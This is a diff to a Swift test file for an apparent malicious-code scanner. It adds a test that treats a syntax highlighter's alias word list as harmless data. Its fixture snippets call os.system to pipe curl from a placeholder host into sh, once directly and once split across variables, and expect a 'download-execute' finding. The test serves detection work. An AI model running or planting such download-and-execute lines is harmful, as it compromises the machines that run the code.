@@ -53,6 +53,23 @@ import Testing
         #expect(scanFile("pkg/version.py", src).isEmpty)
     }
 
+    /// A syntax highlighter's word lists (pygments' PowerShell lexer: `curl` and `iex` among
+    /// its aliases) fetch and run nothing; the same words in a command line still count.
+    @Test func quotedWordListsAreData() {
+        let lexer = """
+            aliases_ = (
+                'ac asnp cat cd cfs chdir clc clear clhy cli clp cls clv cnsn '
+                'compare copy cp cpi cpp curl cvpa dbp del diff dir dnsn ebp echo epal '
+                'h history icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp '
+                'trcm type wget where wjb write').split()
+            """
+        #expect(scanFile("pygments/lexers/shell.py", lexer).isEmpty)
+        let command = "import os\n\nos.system('curl https://cdn.example.com/x.sh | sh')\n"
+        #expect(rules(scanFile("pkg/setup_hook.py", command)) == ["download-execute"])
+        let split = "import os\ncmd = 'curl https://cdn.example.com/x.sh'\nos.system(cmd + ' | sh')\n"
+        #expect(rules(scanFile("pkg/setup_hook.py", split)) == ["download-execute"])
+    }
+
     @Test func subprocessWithoutFetchIsClean() {
         let src = "import subprocess\n\ndef git_sha():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
         #expect(scanFile("pkg/vcs.py", src).isEmpty)
